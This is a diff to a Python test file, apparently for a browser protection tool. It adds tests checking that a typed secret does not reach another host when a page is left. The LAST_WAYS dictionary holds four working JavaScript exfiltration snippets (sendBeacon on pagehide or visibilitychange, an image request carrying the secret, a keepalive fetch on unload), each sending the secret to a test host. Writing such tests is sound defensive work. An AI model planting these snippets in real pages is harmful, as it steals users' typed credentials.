@@ -104,6 +104,28 @@ def test_a_page_with_a_typed_secret_does_not_lead_to_another_host(
     assert other_host.requests == []
 
 
+LAST_WAYS = {
+    "a beacon": "addEventListener('pagehide', () => navigator.sendBeacon(there, secret))",
+    "a beacon of a hidden page": "document.addEventListener('visibilitychange',"
+    " () => navigator.sendBeacon(there, secret))",
+    "an image": "addEventListener('pagehide', () => { new Image().src = there + '/?' + encodeURI(secret) })",
+    "a request that outlives the page": "addEventListener('unload', () =>"
+    " fetch(there, {method: 'POST', mode: 'no-cors', body: secret, keepalive: true}))",
+}
+
+
+@pytest.mark.parametrize("script", LAST_WAYS.values(), ids=LAST_WAYS.keys())
+def test_what_was_typed_does_not_get_to_another_host_when_the_page_is_left(
+    script: str, window: Window, account: Account, other_host: OtherHost
+) -> None:
+    listen(window, f"const there = '{other_host.address}'; {script}")
+    fill_in(window, account)
+    window.load(window.court.website, 10)
+    # What the page sent before it was left would have come before this.
+    window.page.evaluate("there => fetch(`${there}/last`, {mode: 'no-cors'})", other_host.address)
+    assert other_host.requests == ["/last "]
+
+
 OPENERS = {
     "a tab that is led on": "open('/csologin/login.jsf')",
     "a blank tab that is led on": "open('')",
